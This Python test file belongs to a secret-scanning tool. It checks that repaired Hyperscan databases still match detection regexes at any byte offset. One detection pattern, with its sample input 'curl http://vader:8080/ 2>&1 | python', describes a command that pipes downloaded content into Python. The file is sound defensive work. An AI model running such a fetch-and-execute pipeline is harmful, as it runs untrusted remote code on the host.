"""Matches that a release of Hyperscan misses, unless its databases are repaired."""

from __future__ import annotations

import struct

import pytest

from git_secrets_py.engine.hyperscan.compiler import compile_filter
from git_secrets_py.engine.hyperscan.vectorscan_repair import repaired

hyperscan = pytest.importorskip("hyperscan")

# With the fewest bytes between the pair and the literal.
MATCHES = {
    rb"""[=:]["'].{0,20}T0ken""": b'="T0ken',
    rb"k\s[^;]*T0ken": b"k\nT0ken",
    rb"\s+(?:=>|:).*T0ken": b" =>T0ken",
    rb"curl[\x00-\xff]*\|\s*python": b"curl http://vader:8080/ 2>&1 | python",
    # The end of the text takes the place of the literal.
    rb"[=:]\s*['\"]": b"='",
    rb"[ab][cd]\b": b"ac",
}


@pytest.mark.parametrize("together", [False, True])
@pytest.mark.parametrize("source", MATCHES)
def test_a_match_is_found_after_any_number_of_bytes(source: bytes, together: bool) -> None:
    """It is missed only in texts of at least 16 bytes."""
    sources = list(MATCHES) if together else [source]
    database = compile_filter(hyperscan, sources, range(len(sources)))
    number = sources.index(source)
    for before in (*range(70), 100, 130):
        for after in (0, 1, 40):
            text = b"." * before + MATCHES[source] + b"." * after
            assert number in dict(database.hits(text) or ()), text


@pytest.mark.parametrize("source", [b"T0ken", rb"[0-9]{3}"])
def test_a_database_without_the_fault_is_not_changed(source: bytes) -> None:
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[source])
    assert repaired(hyperscan, database) is database


class Serialized:
    """In place of Hyperscan, with a database of these bytes."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def dumpb(self, database: object) -> bytes:
        return self._data


def test_small_numbers_do_not_look_like_tables_of_pairs() -> None:
    header = b"bbdb" + bytes((0, 12, 4, 5)) + struct.pack("<I", 96) + bytes(20)
    numbers = (22, 0, 0, 0, 1, 0, 30, 0xFFFFFFFF, 34, 0, 5, 0, 0, 0, 0, 0)
    entry = bytes((14, *bytes(15))) + struct.pack("<16I", *numbers) + bytes(16)
    database = object()
    assert repaired(Serialized(header + entry), database) is database
